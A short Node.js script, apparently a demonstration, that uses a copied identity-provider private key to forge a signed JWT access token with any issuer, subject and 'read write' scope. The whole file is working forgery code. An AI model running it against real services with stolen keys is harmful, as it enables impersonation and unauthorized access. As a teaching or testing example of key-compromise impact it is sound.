// What somebody does who has copied the identity provider's signing key: a token that the provider never issued.
//
//   node forge.js FOLDER ISSUER SUBJECT

import { createPrivateKey, randomUUID, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const [folder, issuer, subject] = process.argv.slice(2);
const key = JSON.parse(readFileSync(join(folder, 'idp-key.json')));
const now = Math.floor(Date.now() / 1000);

const header = { alg: 'RS256', typ: 'at+jwt', kid: key.kid };
const claims = {
  jti: randomUUID(),
  sub: subject,
  iat: now,
  exp: now + 600,
  scope: 'read write',
  client_id: 'reports',
  iss: issuer,
  aud: 'https://api.example/',
};
const signed = [header, claims].map(part => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
const signature = sign('sha256', Buffer.from(signed), createPrivateKey({ key, format: 'jwk' }));
console.log(`${signed}.${signature.toString('base64url')}`);
